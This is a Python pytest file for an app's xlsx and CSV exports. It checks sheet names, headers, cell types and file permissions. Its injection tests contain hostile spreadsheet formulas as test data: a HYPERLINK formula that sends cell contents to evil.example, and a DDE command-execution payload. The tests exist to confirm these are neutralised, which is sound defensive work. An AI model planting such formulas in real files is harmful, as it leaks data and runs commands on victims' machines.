"""Exports for an office: the xlsx workbook, CSV for Dutch Excel, and the plain RFC 4180 CSV.

The workbook is read back with openpyxl (a test-only dependency): sheet names, header
rows, cell types, frozen panes, and hostile text that stays text.
"""

from __future__ import annotations

import csv
import io
import os
import re
import stat
import subprocess
import sys
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from tests.helpers.cli import run_main
from tests.helpers.golden import ANSWERED_AT, FIRST_NOTE, check_golden, golden_session
from tests.helpers.overview import answer_all
from tests.helpers.pilot import SIZE, press, screen_name
from tui.app.factory import make_app
from tui.cli.main import main
from tui.content import load_strings, load_tool
from tui.content.i18n import strings_for
from tui.render.export import BINARY_FORMATS, EXPORT_FORMATS, FORMATS, export
from tui.render.office import export_bytes, to_xlsx
from tui.render.workbook import CELL_MAX
from tui.session import Answer, Session, SessionStore
from tui.session.store import export_name
from tui.views.report import build_report

pytestmark = pytest.mark.usefixtures("no_sessions_env")

DUTCH_SHEETS = ["Overzicht", "Sterke punten", "Knelpunten", "Antwoorden", "Vervolgstappen"]
ENGLISH_SHEETS = ["Overview", "Strengths", "Obstacles", "Answers", "Next steps"]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")'


@pytest.fixture(autouse=True)
def _utc(utc: None) -> None:
    """Every test here shows dates: in UTC (conftest's `utc`)."""


@pytest.fixture(scope="module")
def tool():
    return load_tool()


def with_remark(tool, session: Session, n: int, remark: str) -> Session:
    """`session` with `remark` on the n-th item (answered 5 or 1, as golden_session has it)."""
    answers = dict(session.answers)
    item = tool.items[n].id
    answers[item] = answers[item].model_copy(update={"remark": remark})
    return session.model_copy(update={"answers": answers})


def workbook(tool, session: Session, language: str = "nl") -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(to_xlsx(build_report(tool, session, strings_for(language)))))


def rows(sheet) -> list[tuple]:
    return list(sheet.iter_rows(values_only=True))


# the formats -------------------------------------------------------------------------


def test_the_formats_are_one_list() -> None:
    assert EXPORT_FORMATS == ("md", "html", "xlsx", "csv", "csv-rfc", "json")
    assert FORMATS == ("md", "html", "csv", "csv-rfc", "json")
    assert BINARY_FORMATS == ("xlsx",)
    strings = load_strings()
    for fmt in EXPORT_FORMATS:
        assert f"export.{fmt}" in strings["nl"] and f"export.{fmt}" in strings["en"], fmt


def test_export_bytes_is_the_text_as_utf8_for_text_formats(tool) -> None:
    report = build_report(tool, golden_session(tool), strings_for("nl"))
    assert export_bytes(report, "csv") == export(report, "csv").encode("utf-8")
    assert export_bytes(report, "xlsx")[:2] == b"PK"


# xlsx ------------------------------------------------------------------------------


def test_xlsx_has_a_sheet_per_view_in_dutch(tool) -> None:
    book = workbook(tool, golden_session(tool))
    assert book.sheetnames == DUTCH_SHEETS
    assert rows(book["Overzicht"])[0] == (
        "Deel",
        "Score (1–5, hoger is beter)",
        "Beantwoord",
        "Niet van toepassing",
        "Totaal",
    )
    assert rows(book["Sterke punten"])[0] == ("Uitspraak", "Deel", "Antwoord", "Aantekening")
    assert rows(book["Knelpunten"])[0] == (
        "Uitspraak",
        "Deel",
        "Antwoord",
        "Aantekening",
        "Suggestie (naar bijlage 1)",
        "Perspectief",
    )
    assert rows(book["Antwoorden"])[0] == (
        "Code",
        "Deel",
        "Uitspraak",
        "Antwoord",
        "Niet van toepassing",
        "Aantekening",
        "Beantwoord op",
    )
    assert rows(book["Vervolgstappen"])[0] == (
        "Wat",
        "Wie",
        "Wanneer",
        "Datum",
        "Klaar",
        "Suggestie (naar bijlage 1)",
    )
    for sheet in book:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.column_dimensions["A"].width > 20, sheet.title


def test_xlsx_sheet_names_and_headers_in_english(tool) -> None:
    book = workbook(tool, golden_session(tool), "en")
    assert book.sheetnames == ENGLISH_SHEETS
    assert rows(book["Answers"])[0] == (
        "Code",
        "Part",
        "Statement",
        "Answer",
        "Not applicable",
        "Remark",
        "Answered on",
    )
    assert rows(book["Next steps"])[0] == (
        "What",
        "Who",
        "When",
        "Date",
        "Done",
        "Suggestion (adapted from appendix 1)",
    )
    assert rows(book["Overview"])[1] == ("Why not (yet)?", 2.6, 5, 0, 5)


def test_xlsx_numbers_are_numbers(tool) -> None:
    book = workbook(tool, golden_session(tool))
    overview = book["Overzicht"]
    assert rows(overview)[1:6] == [
        ("Waarom (nog) niet?", 2.6, 5, 0, 5),
        ("Wat helpt", 3, 12, 0, 12),
        ("Wat hindert", 3, 12, 0, 12),
        ("Eigen belang en regionaal belang", pytest.approx(14 / 6), 6, 0, 6),
        ("Samenwerken als vaardigheid", 3, 14, 0, 14),
    ]
    assert [overview.cell(2, col).data_type for col in range(1, 6)] == ["s", "n", "n", "n", "n"]
    assert overview.cell(2, 2).number_format == "0.0"
    answers = book["Antwoorden"]
    assert rows(answers)[1] == (
        "waarom.geen-noodzaak",
        "Waarom (nog) niet?",
        "We ervaren (nog) geen noodzaak: wat er in de regio op ons afkomt, is nog niet goed in beeld.",
        5,
        False,
        FIRST_NOTE,
        datetime(2024, 3, 10, 14, 0),
    )
    assert [answers.cell(2, col).data_type for col in range(1, 8)] == ["s", "s", "s", "n", "b", "s", "d"]
    assert answers.max_row == len(tool.items) + 1
    assert rows(book["Sterke punten"])[1] == (
        "We zijn bevlogen over het inhoudelijke doel van de samenwerking.",
        "Wat helpt",
        5,
        None,
    )
    assert rows(book["Vervolgstappen"])[1:] == [  # the date is a date; an overdue open step says so
        (
            "Agenda opstellen voor het regio-overleg",
            "Anna",
            "1 april 2024 ⚠ te laat",
            datetime(2024, 4, 1),
            False,
            None,
        ),
        ("Verkenning gedeelde visie", None, None, None, True, "g"),
    ]
    assert book["Vervolgstappen"].cell(2, 4).number_format == "dd-mm-yyyy"


def test_xlsx_overview_names_the_session_below_the_parts(tool) -> None:
    sheet = workbook(tool, golden_session(tool))["Overzicht"]
    assert [row[:2] for row in rows(sheet)[7:]] == [
        ("Regio Golden", None),
        ("Reflectie, laatst bijgewerkt 15-03-2024", None),
        ("Partners", "Stichting Noord & Scholengroep Zuid"),
        ("Rol", "bestuurder"),
        ("Fase", "Lopend"),
        ("Thema’s", "Krimp/leerlingendaling, Lerarentekort"),
        ("Vormen", "RPO"),
        ("Aantekeningen", "Algemene notitie over de samenwerking."),
    ]


def test_xlsx_unanswered_items_are_empty_cells_and_empty_views_say_none(tool) -> None:
    session = golden_session(tool).model_copy(update={"answers": {}, "next_steps": []})
    book = workbook(tool, session)
    assert rows(book["Antwoorden"])[1][3:] == (None, False, None, None)
    assert rows(book["Sterke punten"])[1:] == [("Geen.", None, None, None)]
    assert rows(book["Vervolgstappen"])[1:] == [("Geen.", None, None, None, None, None)]
    assert rows(book["Overzicht"])[1] == ("Waarom (nog) niet?", "te weinig", 0, 0, 5)


def test_xlsx_is_the_same_every_time(tool) -> None:
    report = build_report(tool, golden_session(tool), strings_for("nl"))
    assert to_xlsx(report) == to_xlsx(report)


@pytest.mark.parametrize("formula", [HYPERLINK, "=1+1", "+31 6 1234", "-2", "@SUM(A1:A3)", "=cmd|' /C calc'!A0"])
def test_xlsx_hostile_text_is_a_string_never_a_formula(tool, formula: str) -> None:
    session = with_remark(tool, golden_session(tool), 0, formula)
    session = session.model_copy(update={"title": formula})
    data = to_xlsx(build_report(tool, session, strings_for("nl")))
    book = openpyxl.load_workbook(io.BytesIO(data))
    cell = book["Antwoorden"]["F2"]
    assert (cell.value, cell.data_type) == (formula, "s")
    knelpunt = book["Knelpunten"]["D2"]
    assert (knelpunt.value, knelpunt.data_type) == (formula, "s")
    title = book["Overzicht"]["A8"]
    assert (title.value, title.data_type) == (formula, "s")
    for sheet in book:
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row), sheet.title
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
        assert not [n for n in archive.namelist() if "externalLink" in n or "hyperlink" in n.casefold()]


def test_xlsx_control_characters_stay_in_their_cell(tool) -> None:
    remark = "rood\x1b[31m\x07\tbel\r\nregel\x00\ufffe"
    sheet = workbook(tool, with_remark(tool, golden_session(tool), 0, remark))["Antwoorden"]
    cell = sheet["F2"]
    assert cell.data_type == "s"
    # The file escapes controls as _xHHHH_ (ECMA-376); Excel shows the characters.
    shown = re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), cell.value)
    assert shown == "rood\x1b[31m\x07\tbel\r\nregel\x00\ufffd"
    assert sheet.max_row == len(tool.items) + 1


def test_xlsx_cuts_a_text_longer_than_a_cell_holds(tool) -> None:
    sheet = workbook(tool, with_remark(tool, golden_session(tool), 0, "ab" * 20_000))["Antwoorden"]
    value = sheet["F2"].value
    assert len(value) == CELL_MAX == 32_767
    assert value.endswith("b…") or value.endswith("a…")


# CSV for Excel and CSV by RFC 4180 --------------------------------------------------


def test_csv_for_excel_has_a_bom_semicolons_and_dutch_headers(tool) -> None:
    text = export(build_report(tool, golden_session(tool), strings_for("nl")), "csv")
    assert text.startswith(
        "\ufeffCode;Deel;Uitspraak;Antwoord;Niet van toepassing;Aantekening;Beantwoord op;Score van het deel\n"
    )
    assert text.encode("utf-8")[:3] == b"\xef\xbb\xbf"
    records = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))
    assert len(records) == len(tool.items) + 1
    assert {len(r) for r in records} == {8}
    assert records[1] == [  # for people: the part's title and the local time, as home and list show it
        "waarom.geen-noodzaak",
        "Waarom (nog) niet?",
        "We ervaren (nog) geen noodzaak: wat er in de regio op ons afkomt, is nog niet goed in beeld.",
        "5",
        "nee",
        FIRST_NOTE,
        ANSWERED_AT.astimezone().strftime("%d-%m-%Y %H:%M"),
        "2,6",
    ]


def test_csv_for_excel_has_english_headers_in_english(tool) -> None:
    text = export(build_report(tool, golden_session(tool), strings_for("en")), "csv")
    assert text.startswith("\ufeffCode;Part;Statement;Answer;Not applicable;Remark;Answered on;Part score\n")
    records = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))
    assert records[2][3:] == ["1", "no", "", ANSWERED_AT.astimezone().strftime("%d-%m-%Y %H:%M"), "2.6"]


def test_csv_for_excel_quotes_semicolons_and_neutralises_formulas(tool) -> None:
    session = with_remark(tool, golden_session(tool), 0, "=1+1; en verder")
    session = with_remark(tool, session, 1, "a;b")
    text = export(build_report(tool, session, strings_for("nl")), "csv")
    records = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))
    assert [records[1][5], records[2][5]] == ["'=1+1; en verder", "a;b"]
    assert '"a;b"' in text


def test_csv_rfc_is_the_plain_form(tool) -> None:
    text = export(build_report(tool, golden_session(tool), strings_for("nl")), "csv-rfc")
    assert text.startswith("id,part,text,score,not_applicable,note,answered_at,part_score\r\n")  # RFC 4180: CRLF
    assert "\ufeff" not in text
    assert text.endswith("\r\n") and text.count("\r\n") >= len(tool.items) + 1  # every row; a note may hold its own
    check_golden("regio-golden.csv-rfc", text)
    english = export(build_report(tool, golden_session(tool), strings_for("en")), "csv-rfc")
    assert english.startswith("id,part,text,score,not_applicable,note,answered_at,part_score\r\n")
    records = list(csv.DictReader(io.StringIO(text, newline="")))
    assert (records[0]["score"], records[0]["not_applicable"], records[0]["note"]) == ("5", "false", FIRST_NOTE)


@pytest.mark.parametrize(("fmt", "delimiter"), [("csv", ";"), ("csv-rfc", ",")])
def test_both_csvs_neutralise_a_hyperlink_formula(tool, fmt: str, delimiter: str) -> None:
    text = export(build_report(tool, with_remark(tool, golden_session(tool), 0, HYPERLINK), strings_for("nl")), fmt)
    records = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))
    assert records[1][5] == "'" + HYPERLINK


# the command line ------------------------------------------------------------------


class Terminal(io.TextIOWrapper):
    """A stdout that says it is a terminal, over bytes we can read back."""

    def __init__(self, tty: bool) -> None:
        super().__init__(io.BytesIO(), encoding="utf-8")
        self.tty = tty

    def isatty(self) -> bool:
        return self.tty

    def written(self) -> bytes:
        self.flush()
        return self.buffer.getvalue()


def stored_golden(tmp_path: Path, tool) -> tuple[Path, str]:
    folder = tmp_path / "sessions"
    store = SessionStore(folder)
    stored = store.create("x")
    stored.session = golden_session(tool).model_copy(update={"id": stored.session.id})
    store.save(stored, touch=False)
    return folder, stored.session.id


def run_with_stdout(monkeypatch: pytest.MonkeyPatch, stdout: Terminal, *argv: str) -> int:
    monkeypatch.setattr(sys, "stdout", stdout)
    monkeypatch.setattr(sys, "stdin", io.StringIO(""))
    return main(list(argv))


def test_cli_refuses_to_write_xlsx_onto_a_terminal(tmp_path: Path, tool, monkeypatch, capsys) -> None:
    folder, ident = stored_golden(tmp_path, tool)
    terminal = Terminal(tty=True)
    code = run_with_stdout(monkeypatch, terminal, "--sessions-dir", str(folder), "export", ident, "--format", "xlsx")
    assert code == 2
    assert terminal.written() == b""
    assert capsys.readouterr().err == (
        "samenwerken: xlsx is een binair bestand, geen tekst voor de terminal: "
        "schrijf het met -o BESTAND of naar een pipe\n"
    )


def test_cli_writes_xlsx_bytes_into_a_pipe(tmp_path: Path, tool, monkeypatch) -> None:
    folder, ident = stored_golden(tmp_path, tool)
    pipe = Terminal(tty=False)
    argv = ("--sessions-dir", str(folder), "--lang", "en", "export", ident, "--format", "xlsx")
    assert run_with_stdout(monkeypatch, pipe, *argv) == 0
    assert openpyxl.load_workbook(io.BytesIO(pipe.written())).sheetnames == ENGLISH_SHEETS


def test_cli_writes_xlsx_to_a_private_file(tmp_path: Path, tool, capsys) -> None:
    folder, ident = stored_golden(tmp_path, tool)
    target = tmp_path / "regio.xlsx"
    ran = run_main(capsys, "--sessions-dir", str(folder), "export", ident, "--format", "xlsx", "-o", str(target))
    assert ran.code == 0, ran.err
    assert ran.out == ""
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == DUTCH_SHEETS
    assert book["Antwoorden"]["D2"].value == 5


def test_cli_csv_keeps_its_bom_in_a_pipe_and_leaves_it_out_on_a_terminal(tmp_path: Path, tool, monkeypatch) -> None:
    folder, ident = stored_golden(tmp_path, tool)
    argv = ("--sessions-dir", str(folder), "export", ident, "--format", "csv")
    pipe = Terminal(tty=False)
    assert run_with_stdout(monkeypatch, pipe, *argv) == 0
    assert pipe.written().startswith(b"\xef\xbb\xbfCode;Deel;Uitspraak;")
    terminal = Terminal(tty=True)
    assert run_with_stdout(monkeypatch, terminal, *argv) == 0
    assert terminal.written().startswith(b"Code;Deel;Uitspraak;")


def test_cli_offers_every_format(capsys) -> None:
    ran = run_main(capsys, "export", "--help")
    assert "{md,html,xlsx,csv,csv-rfc,json}" in ran.out


# the app ---------------------------------------------------------------------------


def test_app_writes_an_xlsx_into_exports(tmp_path: Path, tool) -> None:
    store = SessionStore(tmp_path / "sessions")
    session = golden_session(tool)
    app = make_app(store, tool=tool)
    path = app.write_export(session, "xlsx")
    assert path == store.root / "exports" / "regio-golden-2024-03-15.xlsx"  # its title and day, not its id
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(os.stat(path.parent).st_mode) == 0o700
    assert openpyxl.load_workbook(path).sheetnames == DUTCH_SHEETS
    assert app.write_export(session, "xlsx") == path  # replaced, not refused


async def test_the_export_picker_offers_xlsx(tmp_path: Path) -> None:
    from tests.helpers.session import walk_app

    app, store, stored = walk_app(tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await pilot.pause()
        await answer_all(app, pilot)
        await press(pilot, "o", "e")
        assert screen_name(app) == "ExportPicker"
        options = app.screen.query_one("#formats")
        assert [options.get_option_at_index(n).id for n in range(options.option_count)] == list(EXPORT_FORMATS)
        await press(pilot, "down", "down", "enter")
        assert screen_name(app) == "OverviewScreen"
    target = store.root / "exports" / export_name(stored.session, "xlsx")
    assert openpyxl.load_workbook(target)["Antwoorden"]["D2"].data_type == "n"


def test_answers_without_a_date_have_an_empty_date_cell(tool) -> None:
    session = golden_session(tool)
    answers = dict(session.answers)
    answers[tool.items[0].id] = Answer(score=3)
    book = workbook(tool, session.model_copy(update={"answers": answers}))
    assert rows(book["Antwoorden"])[1][3:] == (3, False, None, None)


def test_xlsxwriter_is_imported_only_for_xlsx() -> None:
    code = (
        "import sys\n"
        "import tui.cli.main, tui.render.export, tui.render.office\n"
        "assert 'xlsxwriter' not in sys.modules and 'textual' not in sys.modules\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True, cwd=Path(__file__).resolve().parent.parent)
